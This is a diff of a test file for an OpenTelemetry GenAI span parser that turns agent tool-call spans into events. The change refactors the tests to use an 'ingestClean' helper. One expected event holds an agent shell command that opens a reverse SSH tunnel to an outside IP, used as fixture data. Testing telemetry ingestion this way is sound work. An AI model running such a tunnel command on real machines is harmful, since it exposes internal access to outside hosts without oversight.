@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { itClaimsOnlyItsFixtures } from '../../../helpers/format-fixtures.js';
+import { ingestClean, itClaimsOnlyItsFixtures } from '../../../helpers/format-fixtures.js';
 import { fixture, ingestFile } from '../../../helpers/ingest.js';
 
 const NAME = 'otel-genai';
@@ -18,9 +18,7 @@ describe('otel-genai', () => {
 
   it('parse() turns execute_tool spans into exact tool calls and ignores the other spans', async () => {
     const path = own('synthetic-genai-tools.json');
-    const r = await ingestFile(path);
-    expect(r.issues).toEqual([]);
-    expect(r.events).toHaveLength(2);
+    const r = await ingestClean(path, 2);
     const [bash, weather] = r.events;
     expect(bash).toMatchObject({
       kind: 'tool-call', source: 'agent', format: NAME, ref: { path, index: 2 },
@@ -43,10 +41,8 @@ describe('otel-genai', () => {
 
   it('parse() reads collector JSON lines, falling back to the traceId as session and the span name as tool', async () => {
     const path = own('synthetic-collector-export.jsonl');
-    const r = await ingestFile(path);
+    const r = await ingestClean(path, 2);
     expect(r.container).toBe('jsonl');
-    expect(r.issues).toEqual([]);
-    expect(r.events).toHaveLength(2);
     expect(r.events[0]).toMatchObject({
       ref: { path, line: 1 }, callId: 'toolu_01A', session: '0af7651916cd43dd8448eb211c80319c', tool: 'shell',
       command: 'ssh -R 9000:localhost:22 user@203.0.113.50', host: 'ci-runner-3', timePrecision: 'exact',
